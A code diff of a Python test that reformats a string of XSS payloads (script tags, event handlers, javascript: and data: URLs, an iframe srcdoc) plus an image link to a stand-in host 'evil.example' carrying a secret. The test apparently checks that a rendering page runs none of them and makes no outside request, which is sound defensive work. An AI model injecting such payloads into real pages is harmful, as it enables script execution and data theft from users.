@@ -232,7 +232,8 @@ def test_hostile_output_runs_nothing_and_asks_nobody(open_page: Open, host: Fake
     hostile = (
         "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
         "![pixel](https://evil.example/p.png?secret) <svg onload=alert(4)> [ref]\n\n"
-        '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>\n\n[ref]: data:text/html,<script>alert(6)</script>\n'
+        '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>\n\n'
+        "[ref]: data:text/html,<script>alert(6)</script>\n"
     )
     gate = Gate()
     host.script(Script(steps=[*(hostile[i : i + 7] for i in range(0, len(hostile), 7)), gate, "\n\nEnd."]))
